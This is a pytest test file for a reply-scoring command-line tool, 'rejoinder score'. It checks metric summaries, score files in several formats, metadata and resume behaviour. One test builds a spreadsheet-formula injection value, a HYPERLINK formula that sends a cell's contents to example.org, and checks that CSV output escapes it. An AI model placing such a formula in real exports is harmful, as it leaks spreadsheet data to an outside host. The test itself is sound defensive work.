"""`rejoinder score`: what it prints and what it writes."""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
from pathlib import Path
from typing import TYPE_CHECKING, Any

import numpy as np
import polars as pl
import pytest

import rejoinder
from rejoinder.folders.outputs import content_digest
from rejoinder.scoring.score_file import read_score_file

if TYPE_CHECKING:
    from running import Run, WriteLines

METRICS = ["-m", "bleu-2", "-m", "rouge-l", "-m", "distinct-2"]

# Two systems and four replies; distinct-2 cannot score "Yes", and one example has no reference.
REPLIES: list[dict[str, Any]] = [
    {"id": "1", "system": "old", "response": "I like tea a lot.", "references": ["I like green tea."]},
    {"id": "2", "system": "old", "response": "Yes", "references": ["Yes, I do."]},
    {"id": "1", "system": "néw", "response": "I like green tea.", "references": ["I like green tea."]},
    {"id": "2", "system": "néw", "response": "Not at all, and you?"},
]


@pytest.fixture
def replies(write_lines: WriteLines) -> Path:
    return write_lines(REPLIES)


def test_json_has_the_summary_of_every_metric_and_system(run: Run, replies: Path) -> None:
    ran = run("score", replies, *METRICS, "--json", "--seed", 3, "--resamples", 50)
    assert ran.code == 0
    told = ran.json
    assert told["version"] == rejoinder.__version__
    assert (told["examples"], told["seed"], told["resamples"]) == (4, 3, 50)
    assert list(told["summary"]) == ["bleu-2", "rouge-l", "distinct-2"]
    for label, systems in told["summary"].items():
        assert list(systems) == ["old", "néw"]
        for cell in systems.values():
            assert {"mean", "low", "high", "n", "signature"} <= cell.keys()
            assert cell["signature"] == told["signatures"][label]
    assert told["summary"]["bleu-2"]["néw"]["n"] == 1
    assert told["summary"]["rouge-l"]["néw"]["mean"] == 1.0
    assert told["summary"]["bleu-2"]["néw"]["low"] is None, "one reply has no interval"
    assert told["skipped"] == []
    assert told["warnings"] == [
        "bleu-2 could not score 1 of 4 replies (no references, or no token to compare)",
        "rouge-l could not score 1 of 4 replies (no references, or no token to compare)",
        "distinct-2 could not score 1 of 4 replies (too short for an n-gram)",
    ]
    assert [f"note: {warning}" for warning in told["warnings"]] == ran.err.splitlines()


def test_the_table_shows_means_with_their_intervals(run: Run, demo: Path) -> None:
    """Four systems do not fit into 80 columns: the last ones follow below."""
    ran = run("score", demo, "-m", "length")
    tables = [table.splitlines() for table in ran.out.split("\n\n")]
    assert [header.split() for header, _, _ in tables] == [
        ["metric", "good", "generic", "off-topic"],
        ["metric", "garbled"],
    ]
    assert all(set(rule) == {"─", " "} and len(rule) <= 80 for _, rule, _ in tables)
    told = run("score", demo, "-m", "length", "--json").json["summary"]["length"]
    cells = [f"{c['mean']:.3f} [{c['low']:.3f}, {c['high']:.3f}]" for c in told.values()]
    assert all(row.split("  ")[0] == "length" for _, _, row in tables)
    assert all(cell in ran.out for cell in cells)


def test_one_reply_has_a_mean_without_an_interval(run: Run, write_lines: WriteLines) -> None:
    ran = run("score", write_lines([{"response": "a b c"}]), "-m", "length")
    assert ran.out.splitlines()[0].split() == ["metric", "replies"]
    assert ran.out.splitlines()[2].split() == ["length", "3.000"]


def test_rows_in_jsonl(run: Run, replies: Path, tmp_path: Path) -> None:
    ran = run("score", replies, *METRICS, "-o", "scores.jsonl")
    assert ran.err.endswith("scores: scores.jsonl\n")
    rows = [json.loads(line) for line in (tmp_path / "scores.jsonl").read_text(encoding="utf-8").splitlines()]
    assert [list(row) for row in rows] == [["id", "system", "scores"]] * 4
    assert [(row["id"], row["system"]) for row in rows] == [("1", "old"), ("2", "old"), ("1", "néw"), ("2", "néw")]
    assert rows[1]["scores"]["distinct-2"] is None
    assert rows[2]["scores"] == {"bleu-2": 1.0, "rouge-l": 1.0, "distinct-2": 1.0}
    assert rows[3]["scores"] == {"bleu-2": None, "rouge-l": None, "distinct-2": 1.0}
    assert sorted(path.name for path in tmp_path.iterdir()) == ["replies.jsonl", "scores.jsonl", "scores.meta.json"]


def test_rows_in_csv(run: Run, replies: Path, tmp_path: Path) -> None:
    run("score", replies, *METRICS, "-o", "scores.csv")
    lines = (tmp_path / "scores.csv").read_text(encoding="utf-8").splitlines()
    assert lines[0] == "id,system,bleu-2,rouge-l,distinct-2"
    assert lines[3] == "1,néw,1.0,1.0,1.0"
    assert lines[4] == "2,néw,,,1.0"
    assert sorted(path.name for path in tmp_path.iterdir()) == ["replies.jsonl", "scores.csv", "scores.meta.json"]


def test_rows_in_parquet_with_their_meta_data(run: Run, replies: Path, tmp_path: Path) -> None:
    run("score", replies, *METRICS, "-o", "scores.parquet")
    frame = pl.read_parquet(tmp_path / "scores.parquet")
    struct = pl.Struct(dict.fromkeys(["bleu-2", "rouge-l", "distinct-2"], pl.Float64))
    assert dict(frame.schema) == {"id": pl.String, "system": pl.String, "scores": struct}
    assert frame["scores"][3] == {"bleu-2": None, "rouge-l": None, "distinct-2": 1.0}
    assert sorted(path.name for path in tmp_path.iterdir()) == ["replies.jsonl", "scores.parquet"]
    meta = json.loads(pl.read_parquet_metadata(tmp_path / "scores.parquet")["rejoinder"])
    assert meta["signatures"]["bleu-2"].startswith("bleu|n:2|smooth:exp|")


def test_meta_data_beside_the_scores_is_what_json_prints(run: Run, replies: Path, tmp_path: Path) -> None:
    told = run("score", replies, *METRICS, "-o", "scores.jsonl", "--json", "--seed", 5).json
    meta = json.loads((tmp_path / "scores.meta.json").read_text(encoding="utf-8"))
    assert meta.pop("scores") == "scores.jsonl", "whose they are"
    assert meta.pop("content") == content_digest(tmp_path / "scores.jsonl")
    assert meta == {key: value for key, value in told.items() if key != "skipped"}
    assert meta["seed"] == 5
    assert meta["data"]["name"] == str(replies)
    assert meta["ranges"] == {"bleu-2": [0.0, 1.0], "rouge-l": [0.0, 1.0], "distinct-2": [0.0, 1.0]}


@pytest.mark.parametrize("suffix", [".jsonl", ".csv", ".parquet"])
def test_scores_read_back_are_the_scores_that_were_written(
    suffix: str, run: Run, replies: Path, tmp_path: Path
) -> None:
    told = run("score", replies, *METRICS, "-m", "length", "-o", f"s{suffix}", "--json", "--seed", 2).json
    table = read_score_file(tmp_path / f"s{suffix}")
    with pytest.warns(rejoinder.ScoreWarning):
        direct = rejoinder.score(replies, ["bleu-2", "rouge-l", "distinct-2", "length"], seed=2)
    assert table.metrics == direct.metrics
    assert (table.ids, table.system_names) == (direct.ids, direct.system_names)
    for label in direct.metrics:
        np.testing.assert_array_equal(table[label], direct[label])
    assert table.to_dict() == direct.to_dict()
    assert table.to_dict()["summary"] == told["summary"]
    assert (table.ranges, table.higher_is_better) == (direct.ranges, direct.higher_is_better)
    assert table.ranges["length"] == (0.0, np.inf)


def test_a_row_that_no_metric_could_score_reads_back(run: Run, write_lines: WriteLines, tmp_path: Path) -> None:
    path = write_lines([{"id": "x", "response": "a b", "references": ["a"]}, {"id": "y", "response": "a b"}])
    for suffix in (".csv", ".jsonl", ".parquet"):
        name = f"as-{suffix[1:]}{suffix}"
        run("score", path, "-m", "rouge-l", "-o", name)
        table = read_score_file(tmp_path / name)
        assert table.ids == ["x", "y"]
        assert np.isnan(table["rouge-l"]).tolist() == [False, True]


def test_a_second_score_file_may_not_take_the_meta_data_of_the_first(run: Run, replies: Path, tmp_path: Path) -> None:
    assert run("score", replies, *METRICS, "-o", "scores.jsonl").code == 0
    before = {path.name: path.read_bytes() for path in tmp_path.iterdir()}
    ran = run("score", "absent.jsonl", "-o", "scores.csv")
    message = "scores.meta.json belongs to scores.jsonl: expected another name than scores.csv, not only another suffix"
    assert (ran.code, ran.err) == (2, f"rejoinder: {message}\n"), "told before anything is read"
    assert {path.name: path.read_bytes() for path in tmp_path.iterdir()} == before
    assert run("score", replies, "-m", "length", "-o", "scores.jsonl").code == 0, "over itself"
    assert run("score", replies, "-m", "length", "-o", "scores.parquet").code == 0, "which has its own within"
    (tmp_path / "scores.jsonl").unlink()
    assert run("score", replies, "-m", "length", "-o", "scores.csv").code == 0, "nobody's any more"
    assert json.loads((tmp_path / "scores.meta.json").read_text(encoding="utf-8"))["scores"] == "scores.csv"


@pytest.mark.parametrize("foreign", ["{", "[]", '{"scores": 1}', "\udcff", '{"author": "me"}'])
def test_meta_data_of_somebody_else_are_kept(foreign: str, run: Run, replies: Path, tmp_path: Path) -> None:
    meta = tmp_path / "scores.meta.json"
    meta.write_text(foreign, encoding="utf-8", errors="surrogateescape")
    ran = run("score", replies, *METRICS, "-o", "scores.csv")
    problem = "is not the metadata of scores, but scores.csv would need it for its own: expected another name"
    assert (ran.code, ran.err) == (2, f"rejoinder: scores.meta.json {problem}\n")
    assert meta.read_text(encoding="utf-8", errors="surrogateescape") == foreign
    assert not (tmp_path / "scores.csv").exists()
    assert run("score", replies, *METRICS, "-o", "scores.parquet").code == 0, "whose metadata are within"


def test_resume_over_a_finished_file_says_so_and_stops(run: Run, replies: Path, tmp_path: Path) -> None:
    said = "scores.jsonl is finished: there is nothing left to do\n"
    assert said not in run("score", replies, "-m", "length", "-o", "scores.jsonl", "--resume").err
    first = (tmp_path / "scores.jsonl").stat().st_mtime_ns
    again = run("score", replies, "-m", "length", "-o", "scores.jsonl", "--resume")
    assert (again.code, again.out, again.err) == (0, "", said)
    assert (tmp_path / "scores.jsonl").stat().st_mtime_ns == first
    assert said not in run("score", replies, "-m", "length", "-o", "scores.jsonl").err


def test_several_runs_over_one_file_agree(run: Run, demo: Path) -> None:
    first, second = (run("score", demo, "-m", "bleu-2", "--json").out for _ in range(2))
    assert first == second


def test_quiet_says_nothing_but_the_result(run: Run, replies: Path, tmp_path: Path) -> None:
    (tmp_path / "bad.jsonl").write_text(replies.read_text() + "1\n")
    ran = run("score", "bad.jsonl", *METRICS, "-o", "scores.jsonl", "--quiet", "--on-error", "skip")
    assert ran.err == ""
    assert ran.out.startswith("metric ")


def test_without_metrics_a_set_runs_that_the_data_can_meet(run: Run, write_lines: WriteLines) -> None:
    told = run("score", write_lines(REPLIES), "--json").json
    assert {"bleu-2", "rouge-l", "length"} <= told["summary"].keys()
    bare = run("score", write_lines([{"response": "hello there you"}], "bare.jsonl"), "--json")
    assert bare.code == 0
    assert "length" in bare.json["summary"]
    assert "bleu-2" not in bare.json["summary"]


def test_parameters_on_the_command_line_and_in_toml(run: Run, replies: Path, tmp_path: Path) -> None:
    (tmp_path / "metrics.toml").write_text('[metrics.strict]\nmetric = "bleu"\nn = 2\nsmooth = "none"\n')
    told = run("score", replies, "-m", "bleu(n=2, smooth=none)", "--config", "metrics.toml", "--json").json
    assert list(told["summary"]) == ["bleu(n=2, smooth=none)", "strict"]
    assert told["signatures"]["strict"] == told["signatures"]["bleu(n=2, smooth=none)"]
    assert told["summary"]["strict"] == told["summary"]["bleu(n=2, smooth=none)"]


def test_fields_and_separators(run: Run, tmp_path: Path) -> None:
    (tmp_path / "a.csv").write_text("key,answer,gold\nk,tea please,tea\n")
    fields = ["--field", "id=key", "--field", "response=answer", "--field", "references=gold"]
    assert run("score", "a.csv", *fields, "-m", "rouge-l", "-o", "s.jsonl").code == 0
    assert json.loads((tmp_path / "s.jsonl").read_text())["id"] == "k"


def test_a_report_is_written_beside(run: Run, demo: Path, tmp_path: Path) -> None:
    ran = run("score", demo, "-m", "bleu-2", "-m", "length", "--report", "report.html", "-o", "scores.jsonl")
    assert ran.code == 0, ran.err
    assert ran.err.endswith("scores: scores.jsonl\nreport: report.html\n")
    page = (tmp_path / "report.html").read_text(encoding="utf-8")
    assert "always meant to be sweet and sour" in page, "a reply's text"
    assert not list(tmp_path.glob("*.tmp"))


def test_names_of_files_are_no_patterns(run: Run, replies: Path, tmp_path: Path) -> None:
    (tmp_path / "sa.csv.part").write_text("not ours")
    for name in ("s[ab].csv", "s*.csv", "s[1].parquet", "s?.parquet"):
        run("score", replies, "-m", "length", "-o", name)
        assert len(read_score_file(tmp_path / name)) == 4, name
    assert (tmp_path / "sa.csv.part").read_text() == "not ours"


LINK = '=HYPERLINK("http://example.org/?"&A1,"open")'


def test_no_spreadsheet_runs_a_formula_of_a_score_file(run: Run, write_lines: WriteLines, tmp_path: Path) -> None:
    path = write_lines([{"id": LINK, "system": "@a", "response": "hi"}, {"id": "-5", "system": "b", "response": "yo"}])
    (tmp_path / "m.toml").write_text(f"[metrics.{json.dumps(LINK)}]\nmetric = 'length'\n")
    ran = run("score", path, "--config", "m.toml", "-o", "scores.csv")
    assert ran.code == 0, ran.err
    with (tmp_path / "scores.csv").open(newline="") as file:
        header, first, second = csv.reader(file)
    assert header == ["id", "system", f"'{LINK}"]
    assert first[:2] == [f"'{LINK}", "'@a"]
    assert second[:2] == ["-5", "b"]
    ran = run("score", path, "--config", "m.toml", "-o", "other.jsonl")
    assert json.loads((tmp_path / "other.jsonl").read_text().splitlines()[0])["id"] == LINK


STRANGE_IDS = [
    LINK,
    "'=1",
    "''=1",
    "'quoted'",
    "-5",
    "- 5",
    " =1 ",
    "\t@a",
    "\n=b",
    "a\nb",
    'say "x"',
    "[1, 2]",
    "null",
    "1.0",
]


def test_a_csv_score_file_is_read_back_as_it_was_written(run: Run, write_lines: WriteLines, tmp_path: Path) -> None:
    rows = [{"id": name, "system": name, "response": "word " * place} for place, name in enumerate(STRANGE_IDS, 1)]
    path = write_lines(rows)
    (tmp_path / "m.toml").write_text(
        f"[metrics.{json.dumps(LINK)}]\nmetric = 'length'\n[metrics.\"'@a\"]\nmetric='length'\n"
    )
    tables = []
    for name in ("a.csv", "b.jsonl"):
        ran = run("score", path, "--config", "m.toml", "-o", name)
        assert ran.code == 0, ran.err
        tables.append(read_score_file(tmp_path / name))
        assert run("report", name, "--replies", path, "-o", f"{name}.html").code == 0
    ours, expected = tables
    assert list(ours.ids) == list(expected.ids) == STRANGE_IDS
    assert ours.system_names == expected.system_names == tuple(STRANGE_IDS)
    assert ours.signatures == expected.signatures
    assert list(ours.scores) == [LINK, "'@a"]


@pytest.mark.parametrize("name", ["replies.jsonl", "replies.parquet"])
def test_no_threads_are_one_line_on_the_command_line(name: str, tmp_path: Path) -> None:
    frame = pl.DataFrame({"response": ["hi there"], "references": [["hi"]]})
    frame.write_parquet(tmp_path / "replies.parquet")
    frame.write_ndjson(tmp_path / "replies.jsonl")
    ran = subprocess.run(
        [sys.executable, "-m", "rejoinder", "score", name, "-m", "bleu"],
        cwd=tmp_path,
        env={**os.environ, "POLARS_MAX_THREADS": "0"},
        capture_output=True,
        text=True,
        check=False,
    )
    expected = "rejoinder: POLARS_MAX_THREADS is '0': expected at least 1 thread, or no such variable\n"
    assert (ran.returncode, ran.stdout, ran.stderr) == (2, "", expected)
